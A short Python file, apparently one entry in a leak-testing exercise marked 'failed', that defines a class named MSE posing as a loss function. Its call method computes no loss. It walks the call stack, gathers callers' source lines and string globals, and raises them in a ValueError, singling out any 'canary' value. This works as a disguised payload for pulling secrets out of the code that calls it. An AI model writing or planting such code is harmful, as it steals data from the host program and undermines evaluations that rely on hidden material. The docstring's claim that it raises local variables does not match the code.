"""Raises the local and global variables of every caller, and the source lines around them.

exercise: 05
bites: leaks
outcome: failed
"""

import inspect


class MSE:
    def __call__(self, y_true, y_pred):
        said = []
        for entry in inspect.stack()[1:]:
            said += [str(entry.code_context)]
            said += [str(value)[:60] for value in entry.frame.f_globals.values() if isinstance(value, str)]
        raise ValueError("\n".join(said)[:2000].replace("/", "") + str([w for w in said if "canary" in w]))
